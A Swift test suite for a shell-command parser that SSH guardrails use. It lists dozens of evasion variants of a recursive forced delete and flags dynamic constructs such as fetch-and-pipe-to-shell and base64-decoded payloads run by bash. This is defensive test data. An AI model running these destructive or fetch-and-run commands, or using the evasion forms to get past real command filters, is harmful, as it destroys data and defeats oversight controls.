import Foundation
import Testing
@testable import Adapters

/// The shell-word parse that SSH guardrails match: every known evasion of a text rule resolves
/// to the same canonical forms, and what cannot be resolved statically is class `dynamic`.
@Suite struct ShellWordsTests {
    /// The rule as an operator writes it (a fresh Regex each time: Regex is not Sendable).
    static var rmRule: Regex<AnyRegexOutput> { try! Regex(#"\brm\s+-rf\b"#) }

    static func blocked(_ line: String) -> Bool {
        let parsed = ShellCommandLine.parse(line)
        return ([line] + parsed.forms).contains { (try? rmRule.firstMatch(in: $0)) != nil }
    }

    static func words(_ line: String) -> [[String]] {
        ShellCommandLine.parse(line).commands.map(\.words)
    }

    @Test(arguments: [
        "rm -rf /tmp/x", "r''m -rf /tmp/x", #"r""m -rf /tmp/x"#, #"\rm -rf /tmp/x"#, "rm -r -f /tmp/x", "rm -fr /tmp/x",
        "rm --recursive --force /tmp/x", "rm -R -f /tmp/x", "rm /tmp/x -rf", "rm -rfv /tmp/x", "rm -v -f -r /tmp/x",
        "x=rm;$x -rf /tmp/x", "x=rm; \"$x\" -rf /tmp/x", "rm${IFS}-rf${IFS}/tmp/x", "rm$IFS-rf /tmp/x", "/bin/rm -rf /tmp/x",
        "sudo rm -rf /tmp/x", "sudo -u root rm -r -f /tmp/x", "env -i A=1 rm -fr /tmp/x", "timeout 5 rm -fr /tmp/x",
        "echo hi && rm -fr /tmp/x", "true || rm -fr /tmp/x", "ls | xargs rm -fr", "bash -c 'rm -fr /tmp/x'",
        "sh -c \"r'm' -r -f /tmp/x\"", "echo ok; (cd /; rm -fr /tmp/x)", "find /tmp -exec rm -fr {} \\;",
        "if true; then rm -fr /tmp/x; fi", "$'\\x72\\x6d' -rf /tmp/x", "x='-rf'; rm $x /tmp/x", "rm -rf -- /tmp/x",
        "eval 'rm -fr /tmp/x'", "echo $(rm -fr /tmp/x)", "nohup rm -fr /tmp/x &", "rm \\\n-fr /tmp/x", "rm -rf\t/tmp/x",
    ])
    func everyRmVariantMeetsTheTextRule(line: String) {
        #expect(Self.blocked(line), "\(line) -> \(ShellCommandLine.parse(line).forms.prefix(4))")
    }

    @Test(arguments: ["rm -r /tmp/x", "rm -f /tmp/x", "ls -rf", "grep -rf patterns .",
                      "# rm -rf /", "cat <<EOF\nrm -rf /tmp/x\nEOF"])
    func harmlessLinesDoNotMeetTheRmRule(line: String) {
        let parsed = ShellCommandLine.parse(line)
        #expect(!parsed.forms.contains { (try? Self.rmRule.firstMatch(in: $0)) != nil }, "\(line) -> \(parsed.forms)")
    }

    @Test func quotesEscapesAndSeparatorsResolveToSimpleCommands() {
        #expect(Self.words(#"echo 'a b' "c $HOME" d\ e"#) == [["echo", "a b", "c $HOME", "d e"]])
        #expect(Self.words("a; b && c || d | e |& f & g\nh") == [["a"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"], ["h"]])
        #expect(Self.words("A=1 B=2 make >out.log 2>&1 <in") == [["make"]])
        #expect(Self.words("ls # rm -rf /") == [["ls"]])
        #expect(Self.words("cat <<-'EOF'\n\trm -rf /\n\tEOF\necho done") == [["cat"], ["echo", "done"]])
        #expect(Self.words("$'a\\tb' x") == [["a\tb", "x"]])
        #expect(Self.words("echo \"a\\\"b\" 'c\\d'") == [["echo", "a\"b", "c\\d"]])
        #expect(ShellCommandLine.parse("ls -la").classes.isEmpty)
    }

    @Test func canonicalFormsArePlainSplitAndCombined() {
        let forms = ShellCommandLine.parse("/bin/rm --force -r /tmp/x").forms
        #expect(forms.contains("rm --force -r /tmp/x"))
        #expect(forms.contains("rm -f -r /tmp/x"))
        #expect(forms.contains("rm -fr /tmp/x") && forms.contains("rm -rf /tmp/x"))
        let many = ShellCommandLine.parse("tar -x -v -z -f -p a.tgz").forms
        #expect(many.contains("tar -f -p -v -x -z a.tgz") && many.contains("tar -fpvxz a.tgz"))
        #expect(many.count == 3)
    }

    @Test(arguments: [
        ("x=rm;$x -rf /tmp/x", "variable_command"), ("$CMD /tmp/x", "variable_command"), ("echo $(id)", "command_substitution"),
        ("echo `id`", "command_substitution"), ("diff <(ls a) <(ls b)", "process_substitution"), ("rm${IFS}-rf /", "ifs"),
        ("eval \"$code\"", "eval"), ("source ./env.sh", "source"), (". ./env.sh", "source"),
        ("curl -s http://x | sh", "pipe_to_interpreter"), ("echo cm0gLXJmIC8K | base64 -d | bash", "decode"),
        ("echo cm0gLXJmIC8K | base64 -d | bash", "pipe_to_interpreter"), ("python3 -c 'import os'", "interpreter_inline"),
        ("perl -e 'unlink'", "interpreter_inline"), ("bash -s < script", "shell_from_stdin"), ("bash < script", "pipe_to_interpreter"),
        ("bash <<< 'rm -rf /'", "pipe_to_interpreter"), ("xxd -r -p hex | sh", "decode"), ("echo 'unterminated", "unterminated_quote"),
        ("{rm,-rf,/tmp/x}", "brace_expansion"), ("/bin/r? -rf /tmp/x", "glob_command"), ("sudo su", "shell_from_stdin"),
        ("node --eval 'x'", "interpreter_inline"), ("ruby -e 'x'", "interpreter_inline"), ("python3", "shell_from_stdin"),
    ])
    func whatCannotBeKnownStaticallyIsDynamic(line: String, reason: String) {
        let parsed = ShellCommandLine.parse(line)
        #expect(parsed.dynamicReasons.contains(reason), "\(line): \(parsed.dynamicReasons)")
        #expect(parsed.classes.contains("dynamic"))
    }

    @Test(arguments: ["ls -la /tmp", "bash deploy.sh", "python3 manage.py migrate", "git status && git log -1", "echo \"$HOME\"",
                      "cp a.txt b.txt", "ps aux | grep ssh", "base64 file.bin", "awk '{print $1}' f"])
    func staticLinesAreNotDynamic(line: String) {
        #expect(ShellCommandLine.parse(line).dynamicReasons.isEmpty, "\(line): \(ShellCommandLine.parse(line).dynamicReasons)")
    }

    @Test func variablesInArgumentsAreClassExpansion() {
        #expect(ShellCommandLine.parse("rm -rf $DIR").classes == ["expansion"])
        #expect(ShellCommandLine.parse("rm -rf /tmp/x").classes.isEmpty)
    }

    @Test func nestedCommandsAreAnalysedToo() {
        let parsed = ShellCommandLine.parse("echo $(sudo rm -fr /tmp/x)")
        #expect(parsed.commands.map(\.name).contains("rm"))
        #expect(Self.words("bash -c 'a; b'").map { $0.first ?? "" } == ["bash", "a", "b"])
    }

    @Test func limitsMakeTheLineDynamicInsteadOfFailing() {
        #expect(ShellCommandLine.parse(String(repeating: "a", count: ShellCommandLine.maximumLength + 1)).dynamicReasons == ["too_long"])
        let deep = String(repeating: "sudo ", count: 12) + "ls"
        #expect(ShellCommandLine.parse(deep).dynamicReasons == ["too_deep"])
        let nested = String(repeating: "$(", count: 200) + "ls" + String(repeating: ")", count: 200)
        #expect(ShellCommandLine.parse(nested).dynamicReasons.contains("too_deep"))
        let many = String(repeating: "a;", count: 1000)
        #expect(ShellCommandLine.parse(many).dynamicReasons.contains("too_many_commands"))
        #expect(ShellCommandLine.parse((0..<100).map { "rm -abcd x\($0);" }.joined()).forms.count == ShellCommandLine.maximumForms)
    }

    @Test func arbitraryBytesNeverTrap() {
        var generator = SystemRandomNumberGenerator()
        let alphabet = Array("rm -f'\"\\$`(){};|&<>#\n\t=xIFS!*?[],.".utf8) + [0xff, 0xc3, 0x00]
        for _ in 0..<2000 {
            let bytes = (0..<Int.random(in: 0...40, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! }
            let parsed = ShellCommandLine.parse(String(decoding: bytes, as: UTF8.self))
            _ = parsed.forms
        }
    }

    @Test func sshCommandsCarryTheParse() {
        let command = SSHCommands.exec("x=rm;$x -rf /tmp/x")
        #expect(command.classes.contains("exec") && command.classes.contains("dynamic"))
        #expect(command.forms.contains("rm -rf /tmp/x"))
        let line = SSHCommands.shellLine("r''m -r -f /tmp/x")
        #expect(line.classes == ["shell"])
        #expect(line.forms.contains("rm -rf /tmp/x"))
    }
}
